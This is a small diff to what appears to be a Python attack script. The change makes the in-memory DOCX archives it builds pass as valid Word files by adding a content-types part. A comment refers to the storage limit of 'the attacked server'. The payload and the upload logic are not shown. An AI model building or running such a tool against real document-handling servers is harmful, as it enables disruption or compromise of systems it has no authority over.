@@ -6,6 +6,11 @@ import zipfile
 import httpx
 
 WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+TYPES = (
+    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
+    'officedocument.wordprocessingml.document.main+xml"/></Types>'
+)
 MOST_KEPT = 60_000_000  # bytes of files that the attacked server keeps
 
 
@@ -14,6 +19,7 @@ def archive(xml):
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as one:
         one.writestr("word/document.xml", xml)
+        one.writestr("[Content_Types].xml", TYPES)
     return out.getvalue()
 
 
